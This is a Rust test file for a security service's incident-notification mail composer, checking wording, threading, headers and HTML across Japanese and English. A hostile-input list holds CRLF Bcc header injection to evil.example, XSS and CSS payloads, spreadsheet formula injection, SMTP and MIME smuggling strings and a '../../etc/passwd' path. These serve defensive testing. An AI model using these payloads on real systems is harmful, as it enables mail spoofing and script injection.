use domain::notice::Kind;
use domain::rules::Weight;
use domain::{Language, NoticeId, Priority, Untrusted, Verdict};
use insta::assert_snapshot;

use super::{Attachment, Mail, Plain, compose, plain, wire};
use crate::samples::{self, Story};

fn html(mail: &Mail) -> &str {
    mail.html.as_deref().unwrap()
}

fn mail(story: &Story, language: Language) -> Mail {
    compose(&story.facts(), language, &samples::sender(), vec![])
}

/// What a customer reads: the subject, then the text part.
fn read(mail: &Mail) -> String {
    format!("{}\n\n{}", mail.subject, mail.text)
}

#[test]
fn the_first_notice_says_what_is_known_done_and_asked_on_one_screen() {
    let story = samples::ransomware();
    assert_eq!(story.facts().kind, Kind::First);
    for language in Language::ALL {
        let mail = mail(&story, language);
        assert_snapshot!(format!("first_{}", language.tag()), read(&mail));
        assert!(mail.text.lines().count() <= 50, "{} lines", mail.text.lines().count());
        assert_snapshot!(format!("first_{}_html", language.tag()), html(&mail));
    }
}

#[test]
fn an_update_says_what_became_of_each_action() {
    let story = samples::ransomware_contained();
    assert_eq!(story.facts().kind, Kind::Update);
    for language in Language::ALL {
        assert_snapshot!(format!("update_{}", language.tag()), read(&mail(&story, language)));
    }
}

#[test]
fn a_detection_that_nothing_decides_yet_is_told_as_that() {
    let story = samples::unknown_file();
    for language in Language::ALL {
        assert_snapshot!(format!("undetermined_{}", language.tag()), read(&mail(&story, language)));
    }
}

#[test]
fn a_reminder_names_the_same_deadline_and_silence_is_told_as_the_agreed_rule_rel_15() {
    let story = samples::unknown_file_reminded();
    assert_eq!(story.facts().kind, Kind::Reminder);
    for language in Language::ALL {
        assert_snapshot!(format!("reminder_{}", language.tag()), read(&mail(&story, language)));
    }
    let story = samples::unknown_file_unanswered();
    assert!(story.facts().by_silence);
    for language in Language::ALL {
        assert_snapshot!(format!("silence_{}", language.tag()), read(&mail(&story, language)));
    }
}

#[test]
fn the_analysis_so_far_is_presented_with_the_analysts_words_and_the_time_of_the_next_message() {
    let story = samples::ransomware_presented();
    assert_eq!(story.facts().kind, Kind::Analysis);
    for language in Language::ALL {
        assert_snapshot!(format!("analysis_{}", language.tag()), read(&mail(&story, language)));
    }
}

#[test]
fn a_storm_of_a_first_scan_is_one_message_with_a_table_and_says_why_it_does_not_count() {
    let story = samples::first_scan_storm();
    assert!(story.facts().excluded.is_some());
    for language in Language::ALL {
        assert_snapshot!(format!("storm_{}", language.tag()), read(&mail(&story, language)));
    }
}

#[test]
fn a_call_says_what_waits_and_where_to_take_it() {
    let story = samples::ransomware_not_taken();
    let page = story.incident.pages.values().next().unwrap();
    let mail = crate::page::compose(page, &story.incident, &story.tenant, &samples::sender()).unwrap();
    assert!(mail.urgent);
    assert_snapshot!("call_ja", format!("{}\n\n{}", mail.subject, mail.text));
    let nobody = domain::oncall::Page { to: None, ..page.clone() };
    assert_eq!(crate::page::compose(&nobody, &story.incident, &story.tenant, &samples::sender()), None);
}

#[test]
fn a_question_says_what_is_asked_until_when_and_what_silence_means() {
    let story = samples::unknown_file_asked();
    assert_eq!(story.facts().kind, Kind::Question);
    for language in Language::ALL {
        let mail = mail(&story, language);
        assert_snapshot!(format!("question_{}", language.tag()), read(&mail));
        assert_snapshot!(format!("question_{}_html", language.tag()), html(&mail));
    }
}

#[test]
fn a_verdict_comes_with_its_certainty_its_reason_and_the_report() {
    for (name, story) in [
        ("true_positive", samples::ransomware_answered()),
        ("suspicious", samples::unknown_file_suspicious()),
        ("false_positive", samples::unknown_file_false_positive()),
    ] {
        assert_eq!(story.facts().kind, Kind::Verdict);
        for language in Language::ALL {
            let report = Attachment::pdf("INC-2026-000123_report.pdf", b"%PDF-1.7".to_vec());
            let mail = compose(&story.facts(), language, &samples::sender(), vec![report]);
            assert_snapshot!(format!("{name}_{}", language.tag()), read(&mail));
        }
    }
}

#[test]
fn endpoints_are_named_as_far_as_they_can_be_read_at_once() {
    let lines = |hosts: u32, language: Language| -> Vec<String> {
        let text = mail(&samples::ransomware_on(hosts), language).text;
        let wanted = |l: &&str| ["利用者：", "ほか", "user:", "and ", "other file"].iter().any(|w| l.contains(w));
        text.lines().filter(|l| l.starts_with("   ")).filter(wanted).map(|l| l.trim().to_owned()).collect()
    };
    assert_eq!(lines(2, Language::Ja)[..2], ["WS-17（利用者：ACME\\hanako.suzuki）", "ほか1台：WS-21"]);
    assert_eq!(lines(2, Language::En)[..2], ["WS-17 (user: ACME\\hanako.suzuki)", "and 1 other: WS-21"]);
    assert_eq!(
        lines(5, Language::Ja)[1..3],
        ["ほか4台：WS-24、WS-23、WS-22 など（検知の新しい順）", "ほかに1種類のファイルを検知しています。"]
    );
    assert_eq!(
        lines(5, Language::En)[1..3],
        ["and 4 others, the latest first: WS-24, WS-23, WS-22, …", "1 other file detected as well."]
    );
}

#[test]
fn a_question_has_its_own_deadline_beside_any_other() {
    let story = samples::ransomware().ask();
    let mail = mail(&story, Language::En);
    assert!(mail.text.contains("answer the questions below by 2026-11-27 09:"), "{}", mail.text);
    assert!(!mail.text.contains("By 2026-11-24"), "{}", mail.text);
}

#[test]
fn nobody_is_asked_for_something_by_a_time_that_has_passed() {
    let told = |hours| {
        let story = samples::ransomware().wait(hours).contained();
        let mail = mail(&story, Language::En);
        let line = mail.text.lines().find(|l| l.starts_with("* What we ask of you")).unwrap().to_owned();
        assert_eq!(story.facts().kind, Kind::Update);
        line
    };
    assert!(told(0).starts_with("* What we ask of you: Required, by 2026-11-24 10:15 JST"), "{}", told(0));
    assert!(told(5).starts_with("* What we ask of you: Required, by 2026-11-24 15:"), "{}", told(5));
}

#[test]
fn no_message_gives_an_all_clear_or_a_live_address_sec_34() {
    for story in [
        samples::ransomware(),
        samples::ransomware_contained(),
        samples::ransomware_answered(),
        samples::unknown_file(),
        samples::unknown_file_asked(),
        samples::unknown_file_false_positive(),
        samples::unknown_file_suspicious(),
    ] {
        for language in Language::ALL {
            let mail = mail(&story, language);
            // The one address that leads somewhere is of our own page, and as text.
            let foreign = |part: &str| part.replace("https://soc.example/answers/INC-2026-000123", "");
            for part in [mail.subject.as_str(), &mail.text, html(&mail)].map(foreign) {
                for never in [
                    "問題ありません",
                    "安全です",
                    "safe",
                    "http://",
                    "https://",
                    "evil.example",
                    "198.51",
                    "<a ",
                    "<img",
                    "url(",
                ] {
                    assert!(!part.contains(never), "`{never}` in\n{part}");
                }
            }
        }
    }
}

#[test]
fn every_rule_reads_as_a_whole_sentence_whatever_is_known_of_it() {
    let (plain, asked) = (samples::ransomware_contained(), samples::unknown_file_asked());
    for rule in domain::rules::FLOOR {
        for verdict in [Verdict::Undetermined, Verdict::TruePositive, Verdict::Suspicious, Verdict::FalsePositive] {
            for kind in [Kind::First, Kind::Update, Kind::Question, Kind::Reminder, Kind::Analysis, Kind::Verdict] {
                let mut facts = if kind == Kind::Question { asked.facts() } else { plain.facts() };
                (facts.rule, facts.what, facts.strength) = (rule.id, rule.title, rule.strength);
                (facts.verdict, facts.kind) = (verdict, kind);
                facts.request =
                    rule.request.map(|r| domain::notice::Requested { weight: r.weight, text: r.text, by: None });
                for language in Language::ALL {
                    let text = compose(&facts, language, &samples::sender(), vec![]).text;
                    for flaw in ["。。", "..", "  (", "()", "（）", "「」", "：：", ": :"] {
                        assert!(!text.contains(flaw), "{} {kind:?} {verdict:?}: `{flaw}` in\n{text}", rule.id);
                    }
                    let possible = text.contains("可能性があります") || text.contains("possible");
                    let firm = matches!(verdict, Verdict::TruePositive | Verdict::FalsePositive);
                    assert!(!(firm && possible), "{} {kind:?} {verdict:?}: firm and doubtful at once\n{text}", rule.id);
                }
            }
        }
    }
}

#[test]
fn both_parts_of_a_mail_say_the_same() {
    for story in [samples::ransomware_answered(), samples::unknown_file_asked()] {
        for language in Language::ALL {
            let mail = mail(&story, language);
            let seen = visible(html(&mail));
            for line in mail.text.lines() {
                let said = line.trim().trim_start_matches(['・', '>', '-', '■', '*', ' ']).trim_start_matches("To: ");
                for piece in said.split(['：', ':']).map(str::trim).filter(|p| p.chars().count() > 3) {
                    assert!(piece.starts_with("---") || seen.contains(piece), "`{piece}` is missing in the HTML part");
                }
            }
        }
    }
}

/// The text of an HTML part: tags gone, the five entities back.
fn visible(html: &str) -> String {
    let mut out = String::new();
    let mut inside = false;
    for c in html.chars() {
        match c {
            '<' => inside = true,
            '>' => inside = false,
            _ if !inside => out.push(c),
            _ => {}
        }
    }
    out.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&amp;", "&")
}

#[test]
fn a_repeated_notice_keeps_its_id_and_later_ones_join_the_thread() {
    let (first, later) = (samples::ransomware(), samples::ransomware_answered());
    let (a, b) = (mail(&first, Language::Ja), mail(&first, Language::Ja));
    assert_eq!(a, b);
    assert_eq!(a.message_id, "inc-2026-000123.n1.ja.acme@soc.example");
    assert_eq!(a.in_reply_to, None);
    let verdict = mail(&later, Language::Ja);
    assert_eq!(verdict.in_reply_to.as_deref(), Some(a.message_id.as_str()));
    assert_ne!(verdict.message_id, a.message_id);
    assert_ne!(mail(&first, Language::En).message_id, a.message_id);
}

#[test]
fn the_subject_tells_whether_something_is_asked() {
    let story = samples::ransomware();
    let mut facts = story.facts();
    let subject = |facts: &_| compose(facts, Language::Ja, &samples::sender(), vec![]).subject;
    assert!(subject(&facts).starts_with("【P0・要対応】【TLP:AMBER+STRICT】INC-2026-000123 WS-17 "));
    facts.request = facts.request.map(|r| domain::notice::Requested { weight: Weight::Should, ..r });
    assert!(subject(&facts).starts_with("【P0・要確認】"));
    facts.request = None;
    facts.priority = Priority::P3;
    assert!(subject(&facts).starts_with("【P3・情報】"));
}

const HOSTILE: &[&str] = &[
    "WS\r\nBcc: thief@evil.example\r\n\r\n<h1>forged</h1>",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'; style='background:url(https://evil.example/x)",
    "WS-17\u{202e}gpj.exe\u{200b}",
    "=?utf-8?B?44CQUDPjg7vmg4XloLHjgJE=?=",
    "=?iso-2022-jp?Q?=1B$B?=",
    "=cmd|' /C calc'!A0",
    "@here <!channel> <@U123> &lt;b&gt;",
    "http://evil.example/login",
    "--=_boundary\r\nContent-Type: text/html",
    ".\r\nQUIT\r\n",
    "\u{0}\u{1b}[31m\u{7}",
    "",
    "   ",
];

#[test]
fn hostile_words_change_neither_the_form_nor_the_headers_of_a_mail_sec_30_sec_32() {
    let long = "長".repeat(300);
    let plain = samples::unknown_file_suspicious();
    for hostile in HOSTILE.iter().copied().chain([long.as_str()]) {
        let mut alert = samples::alert();
        for field in [&mut alert.name, &mut alert.endpoint.name] {
            *field = Untrusted::new(hostile);
        }
        alert.process.user = Some(Untrusted::new(hostile));
        alert.file.path = Some(Untrusted::new(hostile));
        let story = Story::begin(alert).verdict(Verdict::Suspicious, &format!("判定の理由です {hostile}"));
        for language in Language::ALL {
            let mail = mail(&story, language);
            assert!(mail.subject.chars().count() <= super::MAX_SUBJECT, "{}", mail.subject);
            assert!(!mail.subject.contains(char::is_control), "{:?}", mail.subject);
            assert_eq!(
                tags(html(&mail)),
                tags(html(&compose(&same_shape(&plain, &story), language, &samples::sender(), vec![])))
            );
            assert!(!mail.text.contains("\nBcc") && !mail.text.contains("\n<h1>"), "{}", mail.text);
            for line in mail.text.lines().filter(|l| !l.is_empty()) {
                assert!(!line.contains(char::is_control), "{line:?}");
            }

            let bytes =
                wire::bytes(&mail, &["yamada@acme.example".parse().unwrap()], samples::at(samples::RECEIVED)).unwrap();
            assert!(bytes.is_ascii());
            let parsed = mail_parser::MessageParser::default().parse(&bytes).unwrap();
            assert_eq!(parsed.subject().map(unfold), Some(unfold(&mail.subject)));
            assert_eq!(parsed.bcc(), None);
            assert_eq!(parsed.parts.len(), 3);
            assert_eq!(parsed.body_text(0).unwrap().replace("\r\n", "\n"), mail.text);
            assert_eq!(parsed.body_html(0).unwrap().replace("\r\n", "\n"), html(&mail));
        }
    }
}

/// The facts of `story`, with harmless words in the places where `story` has hostile ones.
fn same_shape<'a>(harmless: &'a Story, story: &'a Story) -> domain::notice::Facts<'a> {
    let calm = harmless.facts();
    let mut facts = story.facts();
    (facts.title, facts.host, facts.user) = (calm.title, calm.host, calm.user);
    (facts.file, facts.verdict_reason) = (calm.file, calm.verdict_reason);
    facts
}

/// The names of all tags, in order. More lines of a reason are more `div`s, so repeats count once; where a path may break
/// is its own affair.
fn tags(html: &str) -> Vec<&str> {
    let mut tags: Vec<&str> = html.split('<').skip(1).map(|t| t.split([' ', '>']).next().unwrap_or_default()).collect();
    tags.retain(|tag| *tag != "wbr");
    tags.sort_unstable();
    tags.dedup();
    tags
}

/// Runs of blanks are one blank to a header.
fn unfold(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[test]
fn on_the_first_days_of_a_month_the_date_is_the_decisions_and_not_the_machines() {
    let mail = mail(&samples::ransomware(), Language::Ja);
    let to = ["yamada@acme.example".parse().unwrap()];
    let bytes = wire::bytes(&mail, &to, "2027-01-01T00:15:30Z".parse().unwrap()).unwrap();
    let head = String::from_utf8_lossy(&bytes).into_owned();
    assert!(head.contains("Date: Fri, 01 Jan 2027 00:15:30 +0000\r\n"), "{head}");
}

#[test]
fn a_mail_can_be_told_from_a_person_and_carries_its_marking_sec_81() {
    let mail = mail(&samples::ransomware_answered(), Language::Ja);
    let bytes = wire::bytes(&mail, &["yamada@acme.example".parse().unwrap()], samples::at(samples::RECEIVED)).unwrap();
    let head = String::from_utf8(bytes).unwrap();
    let head = head.split("\r\n\r\n").next().unwrap().replace("\r\n ", " ");
    for line in [
        "Date: Tue, 24 Nov 2026 00:15:30 +0000",
        "Auto-Submitted: auto-generated",
        "X-TLP: TLP:AMBER+STRICT",
        "Importance: high",
        "To: yamada@acme.example",
        &format!("Message-ID: <{}>", mail.message_id),
        "In-Reply-To: <inc-2026-000123.n1.ja.acme@soc.example>",
        "References: <inc-2026-000123.n1.ja.acme@soc.example>",
        "Content-Language: ja",
    ] {
        assert!(head.lines().any(|l| l == line), "`{line}` is missing in\n{head}");
    }
    assert!(head.lines().all(|l| l.len() < 990));
}

#[test]
fn many_contacts_are_addressed_together() {
    let mut tenant = samples::tenant();
    let one = tenant.contacts[0].clone();
    tenant.contacts = vec![one; 7];
    let story = Story::begin_for(tenant, samples::alert());
    assert!(mail(&story, Language::Ja).text.starts_with("株式会社アクメ製作所\nご担当者 各位\n"));
    assert!(mail(&story, Language::En).text.starts_with("To: Acme Works, Ltd.\n    All contacts\n"));
    assert_eq!(story.facts().notice, NoticeId(1));
}

#[test]
fn the_name_of_an_attachment_is_no_path() {
    assert_eq!(Attachment::pdf("../../etc/\r\npasswd\"", vec![]).name(), ".._.._etc___passwd_");
}

#[test]
fn a_mail_about_the_service_itself_is_plain_and_names_no_incident() {
    let words = |answers| Plain {
        key: "watch.1790000000\r\nBcc: x",
        answers,
        urgent: true,
        subject: "[Yagura]\r\nBcc: evil@example.com",
        text: "応答がありません\n".into(),
    };
    let mail = plain(words(Some("watch.1")), Language::Ja, &samples::sender());
    assert_eq!(mail.message_id, "watch.1790000000Bccx@soc.example");
    let to = ["oncall@soc.example".parse().unwrap()];
    let bytes = wire::bytes(&mail, &to, samples::at(samples::RECEIVED)).unwrap();
    let parsed = mail_parser::MessageParser::default().parse(&bytes).unwrap();
    assert_eq!((parsed.parts.len(), parsed.body_text(0).unwrap().trim()), (1, "応答がありません"));
    assert_eq!(parsed.in_reply_to().as_text(), Some("watch.1@soc.example"));
    assert_eq!(parsed.header_raw("Importance").map(str::trim), Some("high"));
    assert!(parsed.header_raw("X-Yagura-Incident").is_none() && parsed.header_raw("Bcc").is_none());
}
